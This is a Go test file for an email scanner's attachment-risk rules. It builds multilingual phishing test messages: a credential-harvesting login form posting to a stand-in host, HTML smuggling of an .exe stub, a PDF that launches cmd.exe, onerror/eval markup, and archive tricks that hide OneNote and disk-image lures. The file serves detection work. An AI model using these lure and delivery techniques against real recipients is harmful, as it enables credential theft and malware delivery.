package rules

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"maps"
	"os"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/mxgrid/mxgrid/internal/testenv"
	"github.com/mxgrid/mxgrid/scanner"
)

// attachment is one attached file of a hand-written test message.
type attachment struct {
	name, ctype string
	data        []byte
}

// mixed writes a multipart/mixed message with a plain text body and the
// attachments, base64-encoded as MUAs send them.
func mixed(from, subject, text string, atts ...attachment) []byte {
	var b strings.Builder
	b.WriteString("From: " + from + "\r\nTo: ana@example.org\r\nSubject: " + subject +
		"\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
		"--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + text + "\r\n")
	for _, a := range atts {
		b.WriteString("--b1\r\nContent-Type: " + a.ctype + "; name=\"" + a.name + "\"\r\nContent-Disposition: attachment; filename=\"" +
			a.name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(a.data) + "\r\n")
	}
	b.WriteString("--b1--\r\n")
	return []byte(b.String())
}

// unicodeNamedZip is a zip of one member stored as name, which its
// Unicode Path field names alt: 7-Zip extracts it as alt.
func unicodeNamedZip(t *testing.T, name, alt string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Extra: testenv.UnicodePathExtra(name, alt)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte("notes")); err != nil || zw.Close() != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// zipOf builds a zip archive; encrypted sets the traditional encryption
// flag (bit 0) that encrypted members carry.
func zipOf(t *testing.T, encrypted bool, names ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range names {
		fh := &zip.FileHeader{Name: n, Method: zip.Store}
		if encrypted {
			fh.Flags |= 1
		}
		w, err := zw.CreateHeader(fh)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte("content of " + n)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// zipWith builds a zip archive of one member with the given content.
func zipWith(t *testing.T, name string, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestAttachRisk(t *testing.T) {
	loginPage := []byte(`<html><body><img src="https://cdn.example.net/logo.png"><form action="https://collect.example.net/p.php" method="post">` +
		`<input name="email"><input type="password" name="senha"></form></body></html>`)
	svgScript := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="https://x.example.net/?e="+atob("YQ==")</script></svg>`)
	pdf := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n")
	smuggling := []byte(`<html><body><script>var b=new Blob([Uint8Array.from(atob("TVqQAAMAAAAEAAAA"),c=>c.charCodeAt(0))]);` +
		`var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.pdf.exe";a.click()</script></body></html>`)
	ics := []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Reunião de equipa\r\nDTSTART:20261210T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
	tests := []struct {
		name string
		raw  func(t *testing.T) []byte
		want []string // symbols of this group that must fire; the others must not
	}{
		{"pt: login page attached", func(*testing.T) []byte {
			return mixed("Banco <avisos@seguranca-cliente.example>", "Atualização cadastral obrigatória",
				"Prezado cliente, abra o documento anexo para confirmar seus dados.", attachment{"Comprovante.html", "text/html", loginPage})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"en: svg with a script", func(*testing.T) []byte {
			return mixed("Voicemail <noreply@voice-msg.example>", "New voicemail (0:42)",
				"You have a new voice message. Open the attachment to listen.", attachment{"VM_0042.svg", "image/svg+xml", svgScript})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"en: HTML smuggling page in a zip", func(t *testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.zip", "application/zip", zipWith(t, "invoice.html", smuggling)})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"en: HTML smuggling page in UTF-16", func(*testing.T) []byte {
			var page []byte
			for _, r := range "\ufeff" + string(smuggling) {
				page = append(page, byte(r), byte(r>>8))
			}
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.html", "text/html", page})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"en: a file smuggled in a data: URL with no script", func(*testing.T) []byte {
			page := []byte(`<html><body><a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="invoice.pdf.exe">Download your invoice</a></body></html>`)
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.html", "text/html", page})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"en: a saved receipt page with a data: picture is static", func(*testing.T) []byte {
			page := []byte(`<html><body><img src="data:image/png;base64,iVBORw0KGgo="><p>Order 1187: 2 books, 31.90 EUR</p></body></html>`)
			return mixed("Ana <ana@example.com>", "receipt", "The receipt you asked for.", attachment{"receipt.html", "text/html", page})
		}, []string{AttachHTML}},
		{"en: a PDF that launches a program when opened", func(*testing.T) []byte {
			launcher := []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n" +
				"2 0 obj\n<< /S /Launch /Win << /F (cmd.exe) /P (/c start invoice.pdf.exe) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.pdf", "application/pdf", launcher})
		}, []string{AttachPDFLaunch}},
		{"en: a PDF that runs JavaScript when opened", func(*testing.T) []byte {
			script := []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.launchURL\\('https://x.example.net/'\\)) >> >>\nendobj\n" +
				"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.pdf", "application/pdf", script})
		}, []string{AttachPDFScript}},
		{"en: OneNote in the first of two zips put end to end", func(t *testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.zip", "application/zip", append(zipOf(t, false, "invoice.one"), zipOf(t, false, "readme.txt")...)})
		}, []string{AttachOneNote}},
		{"en: OneNote in a zip, named so by its Unicode Path field", func(t *testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.zip", "application/zip", unicodeNamedZip(t, "invoice.txt", "invoice.one")})
		}, []string{AttachOneNote}},
		// 7-Zip reads the field in the local header of a member the
		// central directory does not list, as in the directory.
		{"en: OneNote in a zip with no central directory, named so by its Unicode Path field", func(t *testing.T) []byte {
			z := unicodeNamedZip(t, "invoice.txt", "invoice.one")
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.zip", "application/zip", z[:bytes.Index(z, []byte("PK\x01\x02"))]})
		}, []string{AttachOneNote}},
		{"de: encrypted zip with the password", func(t *testing.T) []byte {
			return mixed("Buchhaltung <rechnung@firma-abrechnung.example>", "Rechnung 2026-1187",
				"Guten Tag,\r\nanbei die Rechnung. Passwort: 1187", attachment{"Rechnung_1187.zip", "application/zip", zipOf(t, true, "Rechnung_1187.pdf.js")})
		}, []string{AttachArchivePass}},
		{"es: zip holding a shortcut and an ISO, named .dat", func(t *testing.T) []byte {
			return mixed("Correos <envios@correos-entregas.example>", "Su paquete está retenido",
				"Adjuntamos el albarán. Contraseña: 5521", attachment{"albaran.dat", "application/octet-stream", zipOf(t, true, "albaran.iso", "albaran.lnk")})
		}, []string{AttachDiskImage, AttachArchivePass}},
		// 7-Zip and WinRAR open the file a .gz, .bz2, .xz or .zst
		// holds, named without that extension.
		// Windows 11's Explorer and 7-Zip open a tar, and the tar a
		// .gz, .xz or .zst holds: its files are judged as a zip's.
		{"en: login page in a .tar.gz", func(t *testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.tar.gz", "application/gzip", testenv.Gzip(t, "",
					testenv.Tar(t, testenv.TarFile{Name: "invoice/readme.txt", Data: []byte("Open the invoice.")}, testenv.TarFile{Name: "invoice/Invoice.html", Data: loginPage}))})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"fr: disk image in a .tar.xz", func(t *testing.T) []byte {
			return mixed("La Poste <colis@laposte-suivi.example>", "Votre colis",
				"Bonjour, veuillez trouver ci-joint le bordereau.", attachment{"bordereau.tar.xz", "application/x-xz",
					testenv.XZ(t, testenv.Tar(t, testenv.TarFile{Name: "bordereau.iso", Data: []byte("not really a disk")}), 0)})
		}, []string{AttachDiskImage}},
		{"en: OneNote in a .tar.zst", func(t *testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.tar.zst", "application/zstd",
					testenv.Zstd(t, testenv.Tar(t, testenv.TarFile{Name: "invoice.one", Data: []byte("not really a notebook")}))})
		}, []string{AttachOneNote}},
		{"en: OneNote in a .tar.zst with zstd -19's 8 MiB window", func(t *testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.tar.zst", "application/zstd",
					testenv.ZstdDeclaring(t, testenv.Tar(t, testenv.TarFile{Name: "invoice.one", Data: []byte("not really a notebook")}), 13<<3)})
		}, []string{AttachOneNote}},
		// A shortcut is the antivirus' to refuse (shortcut), in a tar
		// as in a zip; the disk image beside it is the rules'.
		{"de: disk image beside a shortcut in a plain tar", func(t *testing.T) []byte {
			return mixed("DHL <paket@dhl-zustellung.example>", "Ihre Sendung",
				"Guten Tag, anbei der Lieferschein.", attachment{"lieferschein.tar", "application/x-tar",
					testenv.Tar(t, testenv.TarFile{Name: "Lieferschein.lnk", Data: []byte("L\x00\x00\x00")}, testenv.TarFile{Name: "Lieferschein.vhdx", Data: []byte("not really a disk")})})
		}, []string{AttachDiskImage}},
		// 7-Zip names the file in a .gz as its header does.
		{"pt: login page in a gzip whose header names it, the attachment innocuous", func(t *testing.T) []byte {
			return mixed("Banco <avisos@seguranca-cliente.example>", "Atualização cadastral obrigatória",
				"Prezado cliente, abra o documento anexo para confirmar seus dados.", attachment{"documento.gz", "application/gzip", testenv.Gzip(t, "Comprovante.html", loginPage)})
		}, []string{AttachHTML, AttachHTMLActive}},
		{"fr: disk image compressed with xz", func(*testing.T) []byte {
			return mixed("La Poste <colis@laposte-suivi.example>", "Votre colis",
				"Bonjour, veuillez trouver ci-joint le bordereau.", attachment{"bordereau.img.xz", "application/x-xz", []byte("\xfd7zXZ\x00not really")})
		}, []string{AttachDiskImage}},
		{"en: OneNote compressed with Zstandard", func(*testing.T) []byte {
			return mixed("Billing <billing@invoices-example.example>", "Your invoice",
				"Please find the invoice attached.", attachment{"invoice.one.zst", "application/zstd", []byte("(\xb5/\xfdnot really")})
		}, []string{AttachOneNote}},
		{"fr: disk image", func(*testing.T) []byte {
			return mixed("La Poste <colis@laposte-suivi.example>", "Votre colis",
				"Bonjour, veuillez trouver ci-joint le bordereau.", attachment{"bordereau.img", "application/octet-stream", []byte("not really a disk")})
		}, []string{AttachDiskImage}},
		{"en: disk image named with a trailing dot, as Windows saves it", func(*testing.T) []byte {
			return mixed("Shipping <track@parcel-notice.example>", "Delivery failed",
				"Print the attached label.", attachment{"label.img.", "application/octet-stream", []byte("not really a disk")})
		}, []string{AttachDiskImage}},
		{"nl: OneNote behind an NTFS stream name", func(*testing.T) []byte {
			return mixed("Boekhouding <factuur@administratie-nl.example>", "Openstaande factuur",
				"Zie bijlage.", attachment{"factuur.one::$DATA", "application/octet-stream", []byte("onenote")})
		}, []string{AttachOneNote}},
		// 7-Zip and WinRAR extract a member named with a colon, which
		// Windows allows in no name, with the colon replaced.
		{"de: disk image in a zip, named after a reply's subject", func(t *testing.T) []byte {
			return mixed("Buchhaltung <rechnung@buero-beispiel.example>", "RE: Rechnung",
				"Anbei die Rechnung.", attachment{"rechnung.zip", "application/zip", zipOf(t, false, "RE: Rechnung.img")})
		}, []string{AttachDiskImage}},
		{"en: zip behind prepended bytes, holding a disk image", func(t *testing.T) []byte {
			return mixed("Scanner <scan@office-devices.example>", "Scanned document",
				"Your scan is attached.", attachment{"scan.pdf", "application/pdf", append([]byte("%PDF-1.4 junk\n"), zipOf(t, false, "scan.iso")...)})
		}, []string{AttachDiskImage}},
		{"it: OneNote inside a zip", func(t *testing.T) []byte {
			return mixed("Ufficio <fatture@studio-contabile.example>", "Fattura scaduta",
				"Buongiorno, in allegato la fattura. La password è 4411.", attachment{"fattura.zip", "application/zip", zipOf(t, true, "fattura.one")})
		}, []string{AttachOneNote, AttachArchivePass}},
		{"pt: a RAR with its senha, named by content only", func(*testing.T) []byte {
			return mixed("Receita <notificacao@receita-avisos.example>", "Pendência fiscal",
				"Documento protegido. Senha de acesso: 2026", attachment{"documento", "application/octet-stream", []byte("Rar!\x1a\x07\x01\x00rest")})
		}, []string{AttachArchivePass}},
		{"en: a RAR holding a disk image and an encrypted script, its password in the text", func(*testing.T) []byte {
			rar := "Rar!\x1a\a\x01\x00\x00\x00\x00\x00\x03\x01\x00\x00\x00\x00\x00\x00\x16\x02\x02\x06\x04\x06 \x01\x02\x03\x04\x00\x00\tlabel.isopacked" +
				"\x00\x00\x00\x00I\x02\x035\n\x04\n \x01\x02\x03\x04\x00\x00\x06run.js4\x01\x00\x00\x0f" + strings.Repeat("\x00", 48) + "ciphertext\x00\x00\x00\x00\x03\x05\x00\x00"
			return mixed("Courier <parcel@delivery-notice.example>", "Customs label",
				"Open the label archive. Password: 8812", attachment{"label.rar", "application/octet-stream", []byte(rar)})
		}, []string{AttachDiskImage, AttachArchivePass}},
		{"fr: a 7z holding a disk image", func(*testing.T) []byte {
			sz := "7z\xbc\xaf'\x1c\x00\x04\x00\x00\x00\x00\x06\x00\x00\x00\x00\x00\x00\x003\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00packed" +
				"\x01\x04\x06\x00\x01\t\x06\x00\a\v\x01\x00\x01\x01\x00\f\x06\x00\b\r\x01\t\x00\x00\x05\x01\x11\x15\x00" +
				"l\x00a\x00b\x00e\x00l\x00.\x00i\x00s\x00o\x00\x00\x00\x00\x00"
			return mixed("Transporteur <colis@livraison-suivi.example>", "Étiquette de livraison",
				"Veuillez ouvrir l'étiquette jointe.", attachment{"etiquette.7z", "application/x-7z-compressed", []byte(sz)})
		}, []string{AttachDiskImage}},
		// Ham: none of the group's symbols may fire.
		{"pt ham: a business's invoice PDF", func(*testing.T) []byte {
			return mixed("Faturação <faturas@papelaria-central.pt>", "Fatura FT 2026/311",
				"Bom dia,\r\nSegue em anexo a fatura FT 2026/311 referente à encomenda de novembro.\r\nCumprimentos,\r\nPapelaria Central, Lda.",
				attachment{"FT_2026_311.pdf", "application/pdf", pdf})
		}, nil},
		{"en ham: a calendar invitation", func(*testing.T) []byte {
			return mixed("Maria <maria@example.com>", "Invitation: team meeting",
				"Hi, see the invitation attached.", attachment{"invite.ics", "text/calendar", ics})
		}, nil},
		{"en ham: a .tar.gz of logs", func(t *testing.T) []byte {
			return mixed("Ops <ops@example.com>", "Logs from last night",
				"Hi, the logs you asked for. The password for the staging box is in the vault.", attachment{"logs.tar.gz", "application/gzip", testenv.Gzip(t, "",
					testenv.Tar(t, testenv.TarFile{Name: "logs/app.log", Data: []byte("12:00 started\n")}, testenv.TarFile{Name: "logs/report.pdf", Data: pdf}))})
		}, nil},
		{"de ham: a zip of holiday photos", func(t *testing.T) []byte {
			return mixed("Jonas <jonas@example.de>", "Urlaubsfotos",
				"Hallo Ana, hier die Fotos vom Wochenende. Das WLAN-Passwort für die Hütte schicke ich dir noch.",
				attachment{"fotos.zip", "application/zip", zipOf(t, false, "IMG_0001.jpg", "IMG_0002.jpg")})
		}, nil},
		{"fr ham: an HTML newsletter, inline", func(*testing.T) []byte {
			return []byte("From: Librairie <lettre@librairie-exemple.fr>\r\nTo: ana@example.org\r\nSubject: Nos nouveautés\r\n" +
				"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><h1>Nouveautés de décembre</h1>" +
				"<p>Découvrez nos livres.</p><a href=\"https://librairie-exemple.fr/nouveautes\">Voir</a><form action=\"https://librairie-exemple.fr/recherche\"></form></body></html>\r\n")
		}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := run(t, &scanner.Envelope{}, scanner.Parse(tt.raw(t)), nil)
			want := map[string]bool{}
			for _, s := range tt.want {
				want[s] = true
				if _, ok := got[s]; !ok {
					t.Errorf("%s did not fire: %v", s, got)
				}
			}
			for s := range attachWeights {
				if _, ok := got[s]; ok && !want[s] {
					t.Errorf("%s fired: %v", s, got)
				}
			}
		})
	}
}

// TestSevenZipHeadersAreDecodedOncePerMessage: the 7z headers a message's
// attachments decode together are bounded (max7zDecoded). Each 7z of 82 KB
// may decode an 8 MB header: five attached cost 82 MB allocated.
func TestSevenZipHeadersAreDecodedOncePerMessage(t *testing.T) {
	bomb, err := os.ReadFile("../archdir/testdata/header-bomb.7z")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name        string
		attachments int
	}{
		{"one", 1},
		{"five", 5},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var atts []attachment
			for i := range tt.attachments {
				atts = append(atts, attachment{fmt.Sprintf("%d.7z", i), "application/x-7z-compressed", bomb})
			}
			msg := scanner.Parse(mixed("a@example.org", "files", "Attached.", atts...))
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			run(t, &scanner.Envelope{}, msg, nil)
			runtime.ReadMemStats(&after)
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 40<<20 {
				t.Errorf("the rules allocated %d MB, want under 40", alloc>>20)
			}
		})
	}
}

// TestUnpackingIsBoundedPerMessage: what the rules decompress from a
// message's compressed attachments, decoders' memory included, is bounded
// all together (maxUnpacked). An .xz may declare a 1.5 GiB dictionary,
// which the decoder gets as far as the bytes it may read allow: twenty
// attachments with 16 MB each would allocate twenty dictionaries of 8 MB.
func TestUnpackingIsBoundedPerMessage(t *testing.T) {
	page := testenv.XZDeclaring(t, []byte("<html><form action=\"https://collect.example.net/p.php\"></form></html>"), 37)
	var atts []attachment
	for i := range 20 {
		atts = append(atts, attachment{fmt.Sprintf("%d.html.xz", i), "application/x-xz", page})
	}
	msg := scanner.Parse(mixed("a@example.org", "files", "Attached.", atts...))
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	got := run(t, &scanner.Envelope{}, msg, nil)
	runtime.ReadMemStats(&after)
	if _, ok := got[AttachHTMLActive]; !ok {
		t.Errorf("%s did not fire: %v", AttachHTMLActive, got)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
		t.Errorf("the rules allocated %d MB, want under 32", alloc>>20)
	}
}

// FuzzCompressedMembers reads arbitrary bytes as a compressed attachment:
// no panic, and the budget it returns within what it was given.
func FuzzCompressedMembers(f *testing.F) {
	page := []byte("<html><form></form></html>")
	f.Add(testenv.Gzip(f, "page.html", page))
	f.Add(testenv.Gzip(f, "", testenv.Tar(f, testenv.TarFile{Name: "a.iso", Data: page}, testenv.TarFile{Name: "b.html", Data: page})))
	f.Add(testenv.XZDeclaring(f, testenv.Tar(f, testenv.TarFile{Name: "b.html", Data: page}), 40))
	f.Add(testenv.Zstd(f, testenv.Tar(f, testenv.TarFile{Name: "c.one", Data: page})))
	f.Fuzz(func(t *testing.T, data []byte) {
		fs := &findings{w: attachWeights}
		pages := maxZippedPages
		left := compressedMembers(fs, &scanner.Leaf{Part: scanner.Part{Filename: "a.tgz"}, Data: data}, 1<<20, &pages)
		if left < 0 || left > 1<<20 || pages < 0 {
			t.Fatalf("%d of the budget left, %d of the pages'", left, pages)
		}
	})
}

// TestActiveMarkup: what makes an attached page act, with no <script>,
// form or http(s) link, and what a static page holds.
func TestActiveMarkup(t *testing.T) {
	tests := []struct {
		name, page string
		want       bool
	}{
		{"script in an error handler", `<img src=x onerror="eval(decodeURIComponent('%64%6f%63'))">`, true},
		{"script in the body's load handler", `<body onload="document.body.innerHTML=unescape('%3Cform')">`, true},
		{"javascript: link behind a character reference", `<a href="&#106;avascript:eval(name)">Open the invoice</a>`, true},
		{"redirect, unquoted", `<meta http-equiv=refresh content="0;url=//login.example.net/">`, true},
		{"redirect, single-quoted", `<meta http-equiv='Refresh' content='0;url=x.html'>`, true},
		{"protocol-relative resource", `<link rel=stylesheet href="//cdn.example.net/a.css">`, true},
		{"an object", `<object data="invoice.pdf"></object>`, true},
		{"static receipt", `<h1>Order 1187</h1><p>2 books, 31.90 EUR. We are online: see you soon.</p><img src="data:image/png;base64,iVBORw0KGgo=">`, false},
		{"a word starting with on in the text", `<p>one = 1, online =2</p>`, false},
		// Attributes as a browser reads them, which the pattern missed.
		{"load handler after a slash", `<body/onload="document.body.innerHTML=unescape('%3Cform')">`, true},
		{"error handler right after a quoted value", `<img src="x"onerror="eval(unescape('%3Cform'))">`, true},
		{"error handler after a '>' in a quoted value", `<img alt=">" src=x onerror="eval(unescape('%3Cform'))">`, true},
		{"error handler after a slash between attributes", `<img src='x'/onerror=eval(name)>`, true},
		{"a path in a link", `<a href=/onboarding=1>Start</a><a href="/online=1">On</a><img src="a.png" alt="only=1">`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := active([]byte("<html>" + tt.page + "</html>")); got != tt.want {
				t.Errorf("active = %v, want %v", got, tt.want)
			}
		})
	}
}

// BenchmarkActiveHostilePages: attached pages of maxActiveScan bytes
// built to keep a pattern engine busy (white space, tags left open,
// event-handler-like words), as 90 of them fill a 23 MB message. Go's
// regexp took 60 ms a page (5.6 s of CPU for the message); read by hand
// it is a pass over the bytes.
func BenchmarkActiveHostilePages(b *testing.B) {
	pages := map[string]string{
		"blanks":  " src" + strings.Repeat(" ", maxActiveScan),
		"open":    strings.Repeat("< o", maxActiveScan/3),
		"onwords": strings.Repeat("<a\ton", maxActiveScan/5),
		"prose":   strings.Repeat("hello world ", maxActiveScan/12),
	}
	for _, name := range slices.Sorted(maps.Keys(pages)) {
		page := []byte(pages[name])
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(page)))
			for b.Loop() {
				if active(page) {
					b.Fatal("a page without active markup is active")
				}
			}
		})
	}
}
